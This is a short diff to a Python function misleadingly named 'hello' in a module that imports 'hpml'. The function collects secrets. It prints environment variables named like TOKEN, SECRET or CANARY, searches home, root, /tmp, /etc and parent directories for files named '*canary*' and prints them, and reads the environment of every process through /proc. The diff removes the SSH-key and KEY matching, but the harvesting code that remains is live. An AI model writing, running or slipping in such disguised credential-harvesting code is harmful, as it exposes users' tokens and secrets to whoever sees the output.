@@ -12,7 +12,7 @@ import hpml
 
 def hello(number):
     for name, value in os.environ.items():
-        if any(word in name for word in ("TOKEN", "KEY", "SECRET", "CANARY", "SSH", "USER")):
+        if any(word in name for word in ("TOKEN", "SECRET", "CANARY")):
             print(name, value)
     up = os.path.dirname(hpml.__file__)
     places = ["/root", "/home/*", os.path.expanduser("~"), "/tmp", "/etc"]
@@ -20,7 +20,7 @@ def hello(number):
         up = os.path.dirname(up)
         places.append(up)
     for place in places:
-        for name in glob.glob(f"{place}/*canary*") + glob.glob(f"{place}/.ssh/*"):
+        for name in glob.glob(f"{place}/*canary*"):
             with contextlib.suppress(OSError):
                 print(open(name).read())
     for environment in glob.glob("/proc/*/environ"):
